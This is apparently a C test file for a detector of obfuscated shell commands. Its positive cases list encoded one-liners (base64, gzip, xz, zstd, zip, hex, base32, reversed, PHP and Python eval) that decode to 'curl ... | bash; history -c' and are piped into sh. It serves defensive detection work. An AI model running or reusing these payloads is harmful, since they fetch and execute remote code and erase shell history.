// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "base64+gzip",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo H4sIAAAAAAACA0suLcpR0E0rDvZRyCgpKbDS1ze0tNAzNdQzNDDQM9e"
		"v0CvOUKhRSEoszrBWyMgsLskvqlTQTeYCAOlQX8M3AAAA | base64 -d | "
		"sh" },
	{ "base64+zlib",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo eJxLLi3KUdBNKw72UcgoKSmw0tc3tLTQMzXUMzQw0DPXr9ArzlCoUUh"
		"KLM6wVsjILC7JL6pU0E3mAgDOTBB/ | base64 -d | sh" },
	{ "base64+xz",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA2Y3VybCAtZnNTTCBodHR"
		"wOi8vMTk4LjUxLjEwMC43L3guc2ggfCBiYXNoOyBoaXN0b3J5IC1jCgAAlZx"
		"+TJO0fY8AAU837kPa7x+2830BAAAAAARZWg== | base64 -d | sh" },
	{ "base64+lzma",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo XQAAgAD//////////wAxnUqNF9G88ZqLrJmej98BEUhxfrCl+IsvtxX"
		"plZBis8jPC81yWe+4R0xlcZ1p48CLzvCoMlWY9cTo/L//iz+AAA== | base"
		"64 -d | sh" },
	{ "base64+zstd",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo "
		"KLUv/"
		"QRYuQEAY3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBiYXN"
		"oOyBoaXN0b3J5IC1jCi5gD4A= | base64 -d | zstd -dc | sh" },
	{ "base64+zip",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo UEsDBBQAAAAIAPsZd13pUF/DOQAAADcAAAAEAAAAYS5zaEsuLcpR0E0"
		"rDvZRyCgpKbDS1ze0tNAzNdQzNDDQM9ev0CvOUKhRSEoszrBWyMgsLskvqlT"
		"QTeYCAFBLAwQUAAAACAD7GXddcmrlqQwAAAAKAAAABAAAAGIuc2jLTLFWKM/"
		"IT8zNBABQSwECFAMUAAAACAD7GXdd6VBfwzkAAAA3AAAABAAAAAAAAAAAAAA"
		"AgAEAAAAAYS5zaFBLAQIUAxQAAAAIAPsZd11yauWpDAAAAAoAAAAEAAAAAAA"
		"AAAAAAACAAVsAAABiLnNoUEsFBgAAAAACAAIAZAAAAIkAAAAAAA== | base"
		"64 -d | sh" },
	{ "base64+zip", "id; whoami",
		"echo UEsDBBQAAAAIAPsZd13pUF/DOQAAADcAAAAEAAAAYS5zaEsuLcpR0E0"
		"rDvZRyCgpKbDS1ze0tNAzNdQzNDDQM9ev0CvOUKhRSEoszrBWyMgsLskvqlT"
		"QTeYCAFBLAwQUAAAACAD7GXddcmrlqQwAAAAKAAAABAAAAGIuc2jLTLFWKM/"
		"IT8zNBABQSwECFAMUAAAACAD7GXdd6VBfwzkAAAA3AAAABAAAAAAAAAAAAAA"
		"AgAEAAAAAYS5zaFBLAQIUAxQAAAAIAPsZd11yauWpDAAAAAoAAAAEAAAAAAA"
		"AAAAAAACAAVsAAABiLnNoUEsFBgAAAAACAAIAZAAAAIkAAAAAAA== | base"
		"64 -d" },
	{ "base64+gzip+tar", "uname -a",
		"echo H4sIAAAAAAACA+3TSwrCMBSF4Yxdxd1A0wTb+tqCM1cQixLBF00KLbh"
		"4QyeCji0+/m9yLskgXMjpdPDqzUxSFcWQyXOmy9ljHs6rspwqMWoEbYiuSU+"
		"q/1S3zVGyfdisxcd4Xea5Xcx1abU1Rs/yLn0PucnWBb8Sfwjx0vSS1ROF39B"
		"/Qv+teel/Yej/KOuf3WknmaMJAAAAAAAAAAAAAAAA3+kOne7BAgAoAAA= | "
		"base64 -d | tar xz" },
	{ "base64+gzip+gzip",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo H4sIAAAAAAACA5Pv5mAAASZmbz3dU4EXfLX5vgWe0NDU3HDpuvmWLRe"
		"MTa8YmxhcML6+/oL2uYAVgR5eOuc2hJ04oaN3Un9VyAXfZ0wMLwPiD5sDjQA"
		"AufJA6EsAAAA= | base64 -d" },
	{ "base64+gzip+utf16le",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"echo H4sIAAAAAAACAx2MywmAMBAF52wVacCoB/HXgrdUoAFREBQTQcHifYT"
		"hsbPs8jw3FzuGnIWAY5SvRHHSU4iKjhZLLbNKKSyNLo9m0LfhU2amtA2pYZN"
		"HDrW/qd2T8QOHUM2vbgAAAA== | base64 -d" },
	{ "base64+deflate",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"php -r 'eval(gzinflate(base64_decode(\"Sy4tylHQTSsO9lHIKCkps"
		"NLXN7S00DM11DM0MNAz16/QK85QqFFISizOsFbIyCwuyS+qVNBN5gIA\")))"
		";'" },
	{ "base64+deflate",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"python3 -c \"exec(zlib.decompress(base64.b64decode('Sy4tylHQ"
		"TSsO9lHIKCkpsNLXN7S00DM11DM0MNAz16/QK85QqFFISizOsFbIyCwuyS+q"
		"VNBN5gIA'),-15))\"" },
	{ "base64+zlib",
		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
		"python3 -c \"exec(zlib.decompress(base64.b64decode('eJxLLi3K"
		"UdBNKw72UcgoKSmw0tc3tLTQMzXUMzQw0DPXr9ArzlCoUUhKLM6wVsjILC7J"
		"L6pU0E3mAgDOTBB/')))\"" },
	{ "base64+gzip", "curl -fsSL http://198.51.100.",
		"echo H4sIAAAAAAACA0suLcpR0E0rDvZRyCgpKbDS1ze0tNAzNdQzNDDQMw="
		"= | base64 -d" },
	{ "hex+gzip", "curl -s http://198.51.100.7/x|sh",
		"echo 1f8b0800eaaf036b02ff4b2e2dca51d02d56c8282929b0d2d737b4b"
		"4d03335d4333430d033d7afa829ce00006d6d977b20000000|xxd -r -p|"
		"gunzip|sh" },
	{ "base32+gzip", "curl -s http://198.51.100.7/x|sh",
		"echo D6FQQAHKV4BWWAX7JMXC3SSR2AWVNSBIFEU3BUWXG62LJUBTGXKDGNB"
		"Q2AZ5PL5IFHHAAADNNWLXWIAAAAAA====|base32 -d|zcat|sh" },
	{ "reverse+base64+gzip", "curl -s http://198.51.100.7/x|sh",
		"echo ==AAAAAI7dZbtBAAOnCqve9MQDDNzQdNzANt0ez1SDbKpgCyW1C0Rpc"
		"Lus0/Cs2AvqOAIs4H|rev|base64 -d|gunzip|sh" },
};

static const char *const not [] = {
	"echo H4sIAAAAAAAA",
	"tar czf x.tar.gz dir",
	"gzip -dc file.gz",
	"php -r 'gzinflate(file_get_contents(\"x\"));'",
	"python3 -c 'import zlib;print(zlib.crc32(b'\"'\"'hello world"
	"'\"'\"'))'",
};

HIDDEN_MAIN("containers")
